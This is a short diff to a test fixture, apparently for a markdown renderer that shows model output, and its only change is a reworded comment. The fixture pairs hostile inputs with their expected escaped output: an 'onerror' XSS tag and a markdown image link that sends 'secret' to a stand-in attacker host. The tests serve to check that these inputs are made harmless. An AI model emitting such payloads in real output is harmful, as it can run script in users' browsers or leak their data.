@@ -1,7 +1,7 @@
 /** Opens a lot, and closes nothing: 29 000 characters. */
 const LADDER = Array.from({ length: 240 }, (_, index) => `${'`'.repeat(index + 1)}a`).join('')
 
-/** What a model wrote, and the nodes that come of it; links as `A[address|text]`. */
+/** Markdown of a model, and the nodes that it renders to; links as `A[URL|text]`. */
 export const MARKDOWN: readonly (readonly [string, string])[] = [
   ['<img src=x onerror=alert(1)> & <b>', '<p>&lt;img src=x onerror=alert(1)&gt; &amp; &lt;b&gt;</p>'],
   ['![cat](https://evil.example/?d=secret)', '<p>![cat](https://evil.example/?d=secret)</p>'],
